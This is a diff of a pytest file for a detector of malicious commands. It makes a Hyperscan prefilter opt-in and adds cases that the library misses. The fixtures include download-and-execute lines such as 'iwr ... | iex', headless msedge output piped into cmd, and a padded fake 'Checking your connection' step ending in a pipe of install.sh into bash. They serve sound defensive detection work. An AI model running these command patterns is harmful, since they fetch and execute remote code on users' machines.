@@ -71,7 +71,7 @@ def both(rules: list[Rule], database: Path) -> Iterator[tuple[CompiledRules, Com
     """(the rules with the database, the same rules without it)."""
     with pytest.MonkeyPatch.context() as patch:
         with_database(patch, database)
-        fast = CompiledRules(rules)
+        fast = CompiledRules(rules, hyperscan=True)
         hsfilter.load.cache_clear()
     assert fast._hs is not None and fast._hs_all
     yield fast, CompiledRules(rules, hyperscan=False)
@@ -224,7 +224,7 @@ def test_a_custom_folder_beside_the_database_is_matched_as_before(
         id="CUSTOM-1", title="t", explanation="e", technique="T1204", weight=50,
         any=(r"\bzork[0-9]{2}\b",),
     )  # fmt: skip
-    fast = CompiledRules([*rules, custom])
+    fast = CompiledRules([*rules, custom], hyperscan=True)
     assert fast._hs is not None
     i = fast._index[custom.any[0]]
     assert i not in fast._hs_index
@@ -240,7 +240,7 @@ def test_a_database_made_for_other_rules_is_not_used(
     assert hsfilter.write(stale, [*patterns[:20], r"\bno-longer-a-rule\b"])
     with_database(monkeypatch, stale)
     assert hsfilter.shipped() is not None
-    assert CompiledRules(rules)._hs is None
+    assert CompiledRules(rules, hyperscan=True)._hs is None
 
 
 @pytest.mark.parametrize(
@@ -269,7 +269,7 @@ def test_a_damaged_or_foreign_database_is_not_used(
         bad.write_bytes(blob)
     with_database(monkeypatch, bad)
     assert hsfilter.shipped() is None
-    compiled = CompiledRules(rules)
+    compiled = CompiledRules(rules, hyperscan=True)
     assert compiled._hs is None
     assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]
 
@@ -281,6 +281,34 @@ def test_without_hyperscan_installed_the_rules_are_matched_as_before(
     monkeypatch.setitem(sys.modules, "hyperscan", None)  # import hyperscan raises ImportError
     assert hsfilter.shipped() is None
     assert not hsfilter.write(database.with_name("never.hyperscan"), ["a"])
-    compiled = CompiledRules(rules)
+    compiled = CompiledRules(rules, hyperscan=True)
     assert compiled._hs is None
     assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]
+
+
+def test_rule_matching_does_not_use_the_database_unless_asked(
+    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    with_database(monkeypatch, database)
+    monkeypatch.delenv(hsfilter.ENABLE_VARIABLE, raising=False)
+    assert CompiledRules(rules)._hs is None
+    monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "1")
+    assert CompiledRules(rules)._hs is not None
+
+
+# Texts on which the wheel's Hyperscan library reports fewer patterns than RE2 finds (each
+# pattern alone does match them): why the database is off (hsfilter.ENABLE_VARIABLE). When a
+# library passes this test, the prefilter may be reconsidered, after a fuzz of joined cases.
+KNOWN_MISSES = [
+    '@ab.cd msedge --headless --dump-dom https://pages.note-sync.test/c | cmd" conhost'
+    ' --headless cmd /c "msedge --headless --dump-dom https://pages.note-sync.test/c | cmd"',
+    "echo 'Checking your connection...'\n" + "\t\t\n" * 11 + "nstall.sh | bash",
+]
+
+
+@pytest.mark.parametrize("text", KNOWN_MISSES)
+def test_the_library_still_misses_what_keeps_the_database_off(
+    both: tuple[CompiledRules, CompiledRules], text: str
+) -> None:
+    fast, exact = both
+    assert exact.hits(text)[0] - fast.hits(text)[0], "the library found them: see KNOWN_MISSES"
